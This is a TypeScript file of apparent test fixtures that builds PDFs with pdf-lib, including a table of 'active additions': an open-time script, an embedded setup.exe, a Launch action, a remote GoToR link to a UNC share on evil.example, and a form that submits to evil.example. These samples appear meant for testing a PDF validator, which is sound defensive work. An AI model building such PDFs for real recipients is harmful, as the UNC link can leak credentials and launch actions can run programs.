import { PDFDocument, PDFName, PDFString } from "@cantoo/pdf-lib";

/** Adds something to a PDF before it is written. */
export type PdfAddition = (document: PDFDocument) => void | Promise<void>;

/** A PDF of one page, with what is added to it. */
export async function makePdf(add: PdfAddition = () => {}): Promise<Blob> {
  const document = await PDFDocument.create({ updateMetadata: false });
  document.addPage().drawText("I authorise the bearer to collect my card.");
  await add(document);
  return new Blob([new Uint8Array(await document.save())], { type: "application/pdf" });
}

/** A PDF with so many bytes that cannot be packed, as scanned pages are. */
export function makeLargePdf(bytes: Uint8Array): Promise<Blob> {
  return makePdf((document) => {
    const picture = document.context.stream(bytes, { Subtype: "Image", Width: 1, Height: bytes.length });
    document.getPage(0).node.newXObject("Scan", document.context.register(picture));
  });
}

/** What PDFs can do beyond being read. */
export const activeAdditions: Readonly<Record<string, PdfAddition>> = {
  "a script that runs when it is opened": (document) => document.addJavaScript("open", "app.alert(1)"),
  "a file inside it": (document) => document.attach(new Uint8Array([77, 90, 0]), "setup.exe"),
  "a program to start": (document) => {
    const action = document.context.obj({ S: "Launch", F: PDFString.of("setup.exe") });
    document.catalog.set(PDFName.of("OpenAction"), document.context.register(action));
  },
  "a file elsewhere to open": (document) => {
    const action = document.context.obj({ S: "GoToR", F: PDFString.of("\\\\evil.example\\share\\page.pdf") });
    document.catalog.set(PDFName.of("OpenAction"), document.context.register(action));
  },
  "a form that sends itself": (document) => {
    document.context.register(
      document.context.obj({ S: "SubmitForm", F: PDFString.of("https://evil.example") }),
    );
  },
};
